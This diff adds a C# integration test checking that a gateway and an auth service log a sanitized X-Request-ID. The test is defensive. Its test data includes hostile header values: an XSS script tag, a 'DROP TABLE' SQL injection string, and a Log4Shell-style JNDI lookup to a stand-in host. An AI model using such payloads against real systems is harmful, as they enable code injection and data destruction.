@@ -1,0 +1,108 @@
+using Checkout.Auth;
+using Checkout.Gateway;
+using Checkout.Tests.Integration.Servers;
+using Checkout.Tests.Integration.Services;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Logging;
+
+namespace Checkout.Tests.Integration.ServiceDefaults;
+
+/// <summary>Gateway with AuthService behind it, and the logs of both with their fields.</summary>
+public sealed class RequestIdTests(TestServers servers) : IAsyncLifetime
+{
+    private const string Header = "X-Request-ID";
+
+    private readonly ScopedLog _authLog = new();
+    private readonly ScopedLog _gatewayLog = new();
+    private Database? _authDb;
+    private Database? _gatewayDb;
+    private ServiceHost<AuthMetrics>? _auth;
+    private ServiceHost<CheckoutMetrics>? _gateway;
+
+    public async ValueTask InitializeAsync()
+    {
+        var redis = servers.RedisConnectionString(RedisDatabase.Auth);
+        var nobody = $"http://127.0.0.1:{FreePort.Find()}";
+        _authDb = await servers.CreateDatabaseAsync("auth");
+        _gatewayDb = await servers.CreateDatabaseAsync("gateway");
+        _auth = ServiceHost<AuthMetrics>.Start(
+            new() { ["ConnectionStrings:authdb"] = _authDb.ConnectionString, ["ConnectionStrings:cache"] = redis },
+            replace: services => services.AddSingleton<ILoggerProvider>(_authLog));
+        _gateway = ServiceHost<CheckoutMetrics>.Start(
+            new()
+            {
+                ["ConnectionStrings:gatewaydb"] = _gatewayDb.ConnectionString,
+                ["ConnectionStrings:cache"] = redis,
+                ["Services:auth:http:0"] = _auth.Url,
+                ["Services:inventory:http:0"] = nobody,
+                ["Services:payment:http:0"] = nobody,
+            },
+            replace: services => services.AddSingleton<ILoggerProvider>(_gatewayLog));
+    }
+
+    public async ValueTask DisposeAsync()
+    {
+        IAsyncDisposable?[] all = [_gateway, _auth, _gatewayDb, _authDb];
+        foreach (var part in all.OfType<IAsyncDisposable>())
+        {
+            await part.DisposeAsync();
+        }
+    }
+
+    [Fact]
+    public async Task sane_id_is_on_the_answer_and_in_the_logs_of_both_services()
+    {
+        const string Id = "order-42_retry.1";
+
+        Assert.Equal(Id, await RegisterAsync(Id));
+
+        await IsLoggedAsync(_gatewayLog, "POST /api/auth/register", Id);
+        await IsLoggedAsync(_authLog, "POST /accounts", Id);
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("two words")]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("a\"b")]
+    [InlineData("id;DROP TABLE orders")]
+    [InlineData("${jndi:ldap://example.com/a}")]
+    [InlineData("a,b")]
+    [InlineData("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")] // 65
+    public async Task hostile_id_is_replaced_by_one_that_both_services_log(string hostile)
+    {
+        var id = await RegisterAsync(hostile);
+
+        Assert.Matches("^[0-9a-f]{32}$", id);
+        await IsLoggedAsync(_gatewayLog, "POST /api/auth/register", id);
+        await IsLoggedAsync(_authLog, "POST /accounts", id);
+    }
+
+    [Fact]
+    public async Task two_ids_at_once_are_none()
+    {
+        var id = await RegisterAsync("first", "second");
+
+        Assert.Matches("^[0-9a-f]{32}$", id);
+        await IsLoggedAsync(_authLog, "POST /accounts", id);
+    }
+
+    /// <summary>Opens an account through Gateway; returns the id on the answer.</summary>
+    private async Task<string> RegisterAsync(params string[] ids)
+    {
+        var account = new { email = $"someone-{Guid.NewGuid():N}@example.com", password = "a-long-password" };
+        var answer = await _gateway!.NewClient().PostAsync("/api/auth/register", account, [.. ids.Select(id => (Header, id))]);
+
+        Assert.Equal(201, answer.Status);
+        return Assert.Single(answer.Headers.GetValues(Header));
+    }
+
+    // The line of a request is written when its answer has gone.
+    private static Task IsLoggedAsync(ScopedLog log, string request, string id) =>
+        Eventually.SucceedsAsync($"{request} is logged", () =>
+        {
+            var line = Assert.Single(log.Lines, line => line.Message.StartsWith(request, StringComparison.Ordinal));
+            Assert.Equal(id, line.Scope.GetValueOrDefault("request_id"));
+            return Task.CompletedTask;
+        });
+}
